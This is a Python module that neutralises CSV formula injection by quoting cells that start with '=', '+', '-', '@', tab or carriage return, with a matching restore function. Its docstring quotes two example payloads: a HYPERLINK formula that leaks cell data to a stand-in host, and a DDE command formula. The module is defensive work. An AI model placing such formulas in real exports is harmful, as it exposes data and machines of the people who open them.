"""CSV cells that a spreadsheet will not run as formulas (CSV injection). Pure.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (and a tab or carriage return before one is skipped), so a report quoting
``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` would run when an analyst opens
the export. As OWASP advises, such a text cell is written with a single quote in front, which
the spreadsheet shows as text. Text that is a plain number (``-1``, ``-33.5``, ``+2e3``: a
negative longitude, an ACLED row's own figures) is left as it is, so that it stays a
number. A cell that already starts with quotes before one of those characters gets one
more, so that :func:`restore` gives back exactly what was written, for every cell.
"""

from __future__ import annotations

import re
from typing import Final

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
_NUMBER: Final = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_ESCAPED: Final = re.compile(r"'+[=+\-@\t\r]")


def neutralise(text: str) -> str:
    """The text as a CSV cell no spreadsheet runs: ``'`` in front when it starts (after any
    quotes) with a formula character and is not a plain number."""
    if text.lstrip("'")[:1] in TRIGGERS and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(cell: str) -> str:
    """The text a cell written by :func:`neutralise` holds (its escape quote removed)."""
    return cell[1:] if _ESCAPED.match(cell) else cell
